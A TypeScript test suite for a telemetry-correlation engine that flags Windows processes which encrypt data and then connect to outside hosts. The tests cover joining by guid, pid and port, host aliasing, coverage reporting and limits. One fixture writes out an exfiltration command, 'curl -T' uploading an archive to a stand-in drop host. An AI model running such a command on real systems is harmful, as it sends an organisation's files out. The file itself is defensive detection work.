import { describe, expect, it } from 'vitest';
import { ACT, agent, POWERSHELL } from '../../test/agent-act.ts';
import {
  connection,
  end,
  health,
  HOUR,
  launch,
  lookup,
  MINUTE,
  moduleLoad,
  script,
  SECOND,
  securityConnection,
  securityLaunch,
  T0,
} from '../../test/host-events.ts';
import { runEngine } from '../../test/run-engine.ts';
import type { TelemetryEvent } from '../event/event.ts';

describe('an act', () => {
  it('becomes one finding, joined over guid, pid and source port', () => {
    const { findings, unlinked } = runEngine(ACT);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      claim: 'C4',
      host: 'ws1.corp.example',
      process: { pid: 100, role: 'script-host' },
      egress: {
        address: '203.0.113.80',
        name: 'drop.example.net',
        nameSource: 'dns-same-process',
        connections: 1,
        sensors: ['Security 5156', 'Sysmon 3'],
        attribution: { method: 'native', confidence: 1 },
      },
    });
    expect(unlinked).toEqual([]);
  });

  it('is found without Sysmon, by pid and time', () => {
    const { findings } = runEngine([
      securityLaunch({ image: POWERSHELL }),
      script({ text: 'encrypt' }),
      securityConnection(),
    ]);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      claim: 'C4',
      confidence: 0.8,
      process: { key: `pid-100@${T0 / 1000}` },
    });
  });

  it('is found of a process that began before the records', () => {
    const { findings } = runEngine([
      script({ text: 'encrypt' }),
      securityConnection({ image: '\\x\\powershell.exe' }),
    ]);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.notSeen.join('\n')).toContain('the start of the process');
  });

  it('is not put together of two processes that only share a pid', () => {
    const { findings } = runEngine([
      securityLaunch({ image: POWERSHELL, user: 'CORP\\ann', session: '0x1' }),
      script({ text: 'encrypt' }),
      end({ image: POWERSHELL, time: T0 + MINUTE }),
      securityLaunch({ image: POWERSHELL, time: T0 + 5 * HOUR, user: 'CORP\\bob', session: '0x2' }),
      securityConnection({ time: T0 + 5 * HOUR + SECOND }),
    ]);
    expect(findings.map(({ claim }) => claim)).toEqual(['C0']);
  });

  it('tied by a file reaches over a day and two processes', () => {
    const { findings } = runEngine([
      launch({
        uid: 'guid-z',
        pid: 101,
        image: 'C:\\Tools\\7z.exe',
        user: 'CORP\\bob',
        commandLine: 'encrypt C:\\Temp\\out.7z',
      }),
      launch({
        uid: 'guid-c',
        pid: 102,
        image: 'C:\\Windows\\System32\\curl.exe',
        user: 'CORP\\ann',
        time: T0 + 20 * HOUR,
        commandLine: 'curl -T C:\\Temp\\out.7z https://drop.example.net',
      }),
      connection({ uid: 'guid-c', pid: 102, time: T0 + 20 * HOUR + SECOND }),
    ]);
    expect(findings.map(({ claim, encryption }) => [claim, encryption[0]?.link])).toEqual([
      ['C4', 'artefact'],
    ]);
  });

  it('of a block in parts is read over the seam', () => {
    const half = { blockId: 'block-1', parts: 2 };
    const whole = [script({ ...half, part: 2, text: 'rypt' }), script({ ...half, part: 1, text: 'enc' })];
    const claims = (parts: readonly TelemetryEvent[]): unknown[] =>
      runEngine([launch(agent), connection({ uid: 'guid-a' }), ...parts]).findings.map(({ claim }) => claim);
    expect(claims(whole)).toEqual(['C4']);
    expect(claims(whole.slice(0, 1))).toEqual(['C0']);
  });

  it('whose Sysmon records lost their pids is joined through the filtering platform', () => {
    // As in the OTRF recordings of late September 2020.
    const { findings } = runEngine([
      launch({ ...agent, pid: undefined }),
      connection({ uid: 'guid-a', pid: undefined }),
      securityConnection({ time: T0 + 9 * SECOND }),
      script({ text: 'encrypt' }),
    ]);
    expect(findings.map(({ claim, process }) => [claim, process.pid])).toEqual([['C4', 100]]);
  });

  it('of which only the classic log tells is joined by its command line, if one process alone has that', () => {
    const command = 'powershell.exe -c tamper';
    const engine = script({ pid: undefined, form: 'host-application', code: 400, text: command });
    const blinded = (events: readonly TelemetryEvent[]): boolean[] =>
      runEngine(events).findings.map(({ story }) => story.some(({ what }) => what === 'tamper'));
    const one = [launch({ ...agent, commandLine: command }), connection({ uid: 'guid-a' }), engine];
    expect(blinded(one)).toEqual([true]);
    const other = { ...agent, uid: 'guid-b', pid: 101, commandLine: command };
    expect(blinded([...one, launch(other)])).toEqual([false]);
    expect(blinded([...one, launch({ ...other, time: T0 + HOUR })])).toEqual([true]);
    expect(blinded([launch({ ...agent, commandLine: 'x' }), connection({ uid: 'guid-a' }), engine])).toEqual([
      false,
    ]);
  });

  it('of PowerShell inside another program is a script host’s', () => {
    const notepad = { uid: 'guid-a', image: 'C:\\Windows\\System32\\notepad.exe' };
    const module = 'C:\\x\\System.Management.Automation.dll';
    const { findings } = runEngine([
      launch(notepad),
      moduleLoad({ uid: 'guid-a', module }),
      connection({ uid: 'guid-a' }),
    ]);
    expect(findings.map(({ process }) => process.role)).toEqual(['script-host']);
  });
});

describe('an egress', () => {
  it('gathers the connections of one process to one place, and keeps places apart', () => {
    const events = [
      launch(agent),
      ...[0, 1, 2].map((i) => connection({ uid: 'guid-a', localPort: 50_000 + i, time: T0 + i * MINUTE })),
      connection({ uid: 'guid-a', localPort: 51_000, remotePort: 8443 }),
      connection({ uid: 'guid-a', localPort: 52_000, remoteAddress: '203.0.113.81' }),
    ];
    const seen = runEngine(events).findings.map(({ egress }) => [
      egress.address,
      egress.port,
      egress.connections,
    ]);
    expect(seen.map(String).toSorted()).toEqual([
      '203.0.113.80,443,3',
      '203.0.113.80,8443,1',
      '203.0.113.81,443,1',
    ]);
  });

  it('is one for a name, whichever of its addresses was taken', () => {
    const addresses = ['203.0.113.80', '203.0.113.81'];
    const { findings } = runEngine([
      launch(agent),
      lookup({ uid: 'guid-a', addresses }),
      ...addresses.map((remoteAddress, i) =>
        connection({ uid: 'guid-a', remoteAddress, localPort: 50_000 + i }),
      ),
    ]);
    expect(findings.map(({ egress }) => [egress.name, egress.connections])).toEqual([
      ['drop.example.net', 2],
    ]);
  });

  it('falls back on the name the sensor attached, the same whatever came first', () => {
    const events = ['b.example.org', 'a.example.org', undefined].map((remoteName, i) =>
      connection({ uid: 'guid-a', remoteName, localPort: 50_000 + i }),
    );
    for (const order of [events, events.toReversed()]) {
      const [found] = runEngine([launch(agent), ...order]).findings;
      expect([found?.egress.name, found?.egress.nameSource]).toEqual(['a.example.org', 'sensor']);
    }
  });
});

describe('what is no act', () => {
  it.each<[string, readonly TelemetryEvent[]]>([
    [
      'a connection inside the site',
      [launch(agent), script({ text: 'encrypt' }), connection({ uid: 'guid-a', remoteAddress: '10.1.1.1' })],
    ],
    [
      'a connection that came in',
      [launch(agent), script({ text: 'encrypt' }), connection({ uid: 'guid-a', direction: 'inbound' })],
    ],
    ['an encryption alone', [launch(agent), script({ text: 'encrypt' })]],
    ['a connection of nobody', [connection({ pid: undefined })]],
    [
      'an updater that connects',
      [launch({ uid: 'guid-u', image: 'C:\\Program Files\\V\\updater.exe' }), connection({ uid: 'guid-u' })],
    ],
    ['nothing', []],
  ])('%s gives no finding', (_what, events) => {
    expect(runEngine(events).findings).toEqual([]);
  });

  it('shows encryptions that no finding speaks of', () => {
    const { unlinked } = runEngine([launch(agent), script({ text: 'encrypt' })]);
    expect(unlinked.map(({ host, operation }) => [host, operation.operation.rule])).toEqual([
      ['ws1.corp.example', 'powershell/word'],
    ]);
  });

  it('keeps decryptions and hashes from being called encryption', () => {
    const claims = runEngine([
      launch(agent),
      script({ text: 'decrypt and hash' }),
      connection({ uid: 'guid-a' }),
    ]).findings;
    expect(claims.map(({ claim }) => claim)).toEqual(['C0']);
  });
});

describe('hosts', () => {
  it('under a short and a full name are one, others are others', () => {
    const both = ACT.map((event, index) => (index % 2 === 0 ? { ...event, host: 'ws1' } : event));
    const [whole, split] = [runEngine(ACT), runEngine(both)];
    expect(split.findings.map(({ id }) => id)).toEqual(whole.findings.map(({ id }) => id));
    expect(split.coverage.map(({ host, aliases }) => [host, aliases])).toEqual([
      ['ws1.corp.example', ['ws1']],
    ]);
    const elsewhere = ACT.map((event, index) =>
      index === 3 || index === 4 ? { ...event, host: 'ws2.corp.example' } : event,
    );
    expect(runEngine(elsewhere).findings.every(({ claim }) => claim === 'C0')).toBe(true);
  });

  it('are covered as far as their telemetry reached', () => {
    const [coverage] = runEngine([
      launch({ ...agent, commandLine: undefined }),
      connection({ uid: 'guid-a' }),
      health(),
    ]).coverage;
    const state = Object.fromEntries(coverage?.parts.map((part) => [part.id, part.state]) ?? []);
    expect(state).toEqual({
      'process-start': 'observed',
      'command-line': 'not-observed',
      'script-text': 'not-observed',
      'network-process': 'observed',
      names: 'not-observed',
      'payload-entropy': 'not-observable',
    });
    expect(coverage?.notes.join('\n')).toContain('Sysmon error x');
    expect([coverage?.externalConnections, coverage?.externalConnectionsWithProcess]).toEqual([1, 1]);
  });

  it('are not covered for what lies outside the hours asked for', () => {
    const { findings, coverage } = runEngine(ACT, { since: T0 + 24 * HOUR });
    expect([findings, coverage]).toEqual([[], []]);
    const until = runEngine(ACT, { until: T0 + 10 * SECOND });
    expect(until.coverage[0]?.last).toBeLessThan(T0 + 10 * SECOND);
  });
});

describe('limits', () => {
  it('bound what is kept of a host, and what was left out is said', () => {
    const many = Array.from({ length: 200 }, (_, i) => connection({ uid: 'guid-a', localPort: 40_000 + i }));
    const { findings, coverage } = runEngine([...ACT, ...many], { limits: { connections: 20 } });
    expect(findings[0]?.egress.connections).toBeLessThanOrEqual(20);
    expect(coverage[0]?.notes.join('\n')).toContain('memory limit');
  });

  it('bound command lines in which something was read', () => {
    const many = Array.from({ length: 50 }, (_, i) =>
      launch({ uid: `guid-${i}`, pid: i + 1, commandLine: `encrypt ${i}` }),
    );
    expect(runEngine(many, { limits: { processes: 10 } }).unlinked.length).toBeLessThanOrEqual(10);
  });
});
